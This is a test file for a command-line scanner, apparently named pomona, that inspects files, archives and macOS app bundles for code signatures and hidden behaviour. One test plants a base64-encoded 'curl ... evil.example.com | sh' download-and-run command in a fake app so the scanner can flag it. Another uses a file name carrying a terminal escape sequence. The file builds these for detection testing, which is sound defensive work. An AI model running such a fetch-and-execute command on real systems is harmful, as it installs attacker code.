import { deepEqual, equal, match, ok } from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { mkdirSync, symlinkSync } from 'node:fs'
import { join } from 'node:path'
import { test } from 'node:test'
import { signImage, writeImage } from '@pomona/analysis/testing'
import { objects, pomona, temporaryFolder, written } from '../pomona.ts'

const SIGNED = signImage(writeImage(), { identifier: 'org.example.tool' })

test('scan: a folder gives one report a file in order of names, and a summary', async (context) => {
  const folder = temporaryFolder(context)
  mkdirSync(join(folder, 'b'))
  written(folder, { name: 'a.sh', content: '#!/bin/sh\n' })
  written(join(folder, 'b'), { name: 'tool', content: SIGNED })
  symlinkSync('/etc/passwd', join(folder, 'link'))
  const ended = await pomona(['scan', folder, '--json'])
  equal(ended.code, 0)
  const found = objects(ended)
  deepEqual(
    found.map(({ kind, path, type }) => [kind, path, type]),
    [
      ['file', join(folder, 'a.sh'), 'script'],
      ['file', join(folder, 'b/tool'), 'mach-o'],
      ['summary', undefined, undefined],
    ],
  )
  const { kind: _, ...counts } = found[2] ?? {}
  deepEqual(counts, {
    files: 2,
    members: 0,
    unreadable: 0,
    mach_o: 1,
    images: 1,
    signed: 0,
    invalid: 0,
  })
})

test('scan: people read who signed what, and what is wrong with it', async (context) => {
  const folder = temporaryFolder(context)
  const damaged = Buffer.from(SIGNED)
  damaged[64] = (damaged[64] ?? 0) ^ 1
  const { code, stdout } = await pomona([
    'scan',
    written(folder, { name: 'good', content: SIGNED }),
    written(folder, { name: 'bad', content: damaged }),
  ])
  equal(code, 0)
  match(stdout, /arm64 execute, 1 libraries, 0 imports\n {4}adhoc, valid\n/)
  match(stdout, /identifier org\.example\.tool, cdhash [0-9a-f]{40}/)
  match(stdout, /adhoc, NOT valid\n/)
  match(stdout, /! code_modified: 1 of 1 pages differ/)
})

test('scan: what is in an archive has a report of its own', async (context) => {
  const folder = temporaryFolder(context)
  written(folder, { name: 'tool', content: SIGNED })
  const archive = join(folder, 'tool.tgz')
  execFileSync('tar', ['czf', archive, '-C', folder, 'tool'])
  const found = objects(await pomona(['scan', archive, '--json']))
  deepEqual(
    found.map(({ member, type }) => [member, type]),
    [
      [undefined, 'gzip'],
      [['tool.tar'], 'data'],
      [['tool.tar', 'tool'], 'mach-o'],
      [undefined, undefined],
    ],
  )
  equal(objects(await pomona(['scan', archive, '--json', '--no-members'])).length, 2)
})

test('scan: a name that plays with the terminal is shown harmless', async (context) => {
  const folder = temporaryFolder(context)
  const { stdout } = await pomona(['scan', written(folder, { name: 'a\u001b[2Jb', content: 'x' })])
  ok(!stdout.includes('\u001b'))
})

test('scan: signatures can be laid out as codesign has them', async (context) => {
  const path = written(temporaryFolder(context), { name: 'tool', content: SIGNED })
  const { stdout } = await pomona(['scan', path, '--codesign'])
  match(stdout, /\nIdentifier=org\.example\.tool\nFormat=Mach-O thin \(arm64\)\nCodeDirectory v=/)
  match(stdout, /\nSignature=adhoc\nInfo\.plist=not bound\nTeamIdentifier=not set\n/)
})

test('scan: what cannot be read is said, and the rest is done', async (context) => {
  const folder = temporaryFolder(context)
  const path = written(folder, { name: 'tool', content: SIGNED })
  const ended = await pomona(['scan', join(folder, 'none'), path, '--json'])
  equal(ended.code, 1)
  match(ended.stderr, /Cannot read .*none: ENOENT/)
  equal(objects(ended).length, 2)
  const large = await pomona(['scan', path, '--bytes-max', '10', '--json'])
  equal(large.code, 1)
  match(large.stderr, /it has \d+ bytes, above 10\./)
  equal((await pomona(['scan'])).code, 2)
})

test('scan: a script in an application in an archive tells what it hides and does', async (context) => {
  const folder = temporaryFolder(context)
  const contents = join(folder, 'Tool.app/Contents')
  mkdirSync(join(contents, 'MacOS'), { recursive: true })
  const hidden = Buffer.from('curl -s https://evil.example.com/x | sh').toString('base64')
  written(join(contents, 'MacOS'), {
    name: 'Tool',
    content: `#!/bin/sh\necho ${hidden} | base64 -d | sh\n`,
  })
  const info = '<key>CFBundleIdentifier</key><string>com.example.tool</string>'
  const executable = '<key>CFBundleExecutable</key><string>Tool</string>'
  written(contents, {
    name: 'Info.plist',
    content: `<plist><dict>${info}${executable}<key>LSUIElement</key><true/></dict></plist>`,
  })
  const archive = join(folder, 'tool.tgz')
  execFileSync('tar', ['czf', archive, '-C', folder, 'Tool.app'])
  const text = await pomona(['scan', archive])
  match(text.stdout, /bundle tool\.tar, Tool\.app: com\.example\.tool, without an icon\n/)
  match(text.stdout, /shell by \/bin\/sh, hides 1 texts: base64\n/)
  match(text.stdout, /! download_and_run, hidden text 1, line 1: curl -s/)
  match(text.stdout, /names https:\/\/evil\.example\.com\/x, evil\.example\.com\n/)
  const [first] = objects(await pomona(['scan', archive, '--json']))
  const bundles = JSON.stringify(first?.['bundles'])
  match(bundles, /"executable":\["tool\.tar","Tool\.app\/Contents\/MacOS\/Tool"\]/)
})
